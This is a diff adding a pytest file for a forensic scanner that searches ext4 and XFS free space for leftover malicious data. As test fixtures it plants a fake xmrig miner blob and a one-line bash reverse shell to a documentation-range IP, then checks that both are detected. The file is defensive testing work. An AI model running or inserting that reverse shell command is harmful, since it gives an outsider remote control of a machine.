@@ -1,0 +1,65 @@
+# SPDX-License-Identifier: AGPL-3.0-or-later
+"""Free space of ext4 and XFS, by the file systems' own maps."""
+
+import contextlib
+import io
+import struct
+
+import pytest
+from conftest import VOLUME
+from disks import file_system
+from hypothesis import given
+from hypothesis import strategies as st
+
+from clean_room_analysis import limits
+from clean_room_analysis.free_space import free_runs, scan_free_space
+from clean_room_analysis.model import Finding, NotLookedAt, Severity
+
+MINER = b"\x7fELF" + b"\0" * 60 + b"stratum+tcp://pool.example:3333 xmrig donate-level"
+_EXT = file_system()
+SCRIPT = b"#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.23/4444 0>&1\n"
+
+
+def results(disk: bytes, kind: str, seconds: float = 60) -> list[Finding | NotLookedAt]:
+    size = limits.EVIDENCE_BLOCK_BYTES
+    nonzero = bytes(bool(disk[start : start + size].strip(b"\0")) for start in range(0, len(disk), size))
+    return list(scan_free_space(lambda: io.BytesIO(disk), kind, VOLUME, 0, nonzero, seconds))
+
+
+@pytest.mark.parametrize("name", ["ext2-old", "ext4", "ext4-few-inodes", "ext4-no-extents", "xfs"])
+def test_what_is_left_in_free_blocks_is_found(name: str) -> None:
+    disk, kind = bytearray(file_system(name)), "xfs" if name.startswith("xfs") else "ext4"
+    runs = list(free_runs(io.BytesIO(disk), kind))
+    # The superblock counts its free blocks; groups that were never written are looked at whole.
+    count, block = (
+        struct.unpack_from(">Q", disk, 144)[0], struct.unpack_from(">I", disk, 4)[0]
+    ) if kind == "xfs" else (struct.unpack_from("<I", disk, 1024 + 12)[0], 1024 << struct.unpack_from("<I", disk, 1024 + 24)[0])  # fmt: skip
+    assert 0.9 * count * block <= sum(length for _, length in runs) <= len(disk)
+    first, length = max(runs, key=lambda run: run[1])
+    assert results(bytes(disk), kind) == []
+    disk[first + 8192 : first + 8192 + len(MINER)] = MINER
+    place = first + (length // 2) // 16384 * 16384
+    disk[place : place + len(SCRIPT)] = SCRIPT
+    found = [one for one in results(bytes(disk), kind) if isinstance(one, Finding)]
+    assert {one.rule for one in found} == {"coin_miner", "reverse_shell_script"}
+    assert all(one.severity is Severity.HIGH and one.path is None and "T1070.004" in one.attack for one in found)
+    (script,) = [one for one in found if one.rule == "reverse_shell_script"]
+    at = int(script.evidence.split("at byte ")[1].split(" ")[0])
+    assert place <= at < place + len(SCRIPT)
+
+
+def test_time_is_bounded_and_said() -> None:
+    disk = bytearray(file_system())
+    first, length = max(free_runs(io.BytesIO(disk), "ext4"), key=lambda run: run[1])
+    disk[first : first + length] = b"x" * length
+    (said,) = results(bytes(disk), "ext4", seconds=-1)
+    assert isinstance(said, NotLookedAt) and not said.incomplete and "time for free space was over" in said.why
+
+
+@given(st.integers(1024, 1024 + 400), st.binary(min_size=1, max_size=8), st.integers(0, 60))
+def test_damaged_maps_end_in_an_error_and_not_in_a_loop(at: int, damage: bytes, more: int) -> None:
+    disk = bytearray(_EXT)
+    disk[at : at + len(damage)] = damage
+    disk[2048 + more : 2048 + more + len(damage)] = damage
+    with contextlib.suppress(ValueError, OverflowError, struct.error):
+        assert sum(length >= 0 for _, length in free_runs(io.BytesIO(disk), "ext4")) < 1_000_000
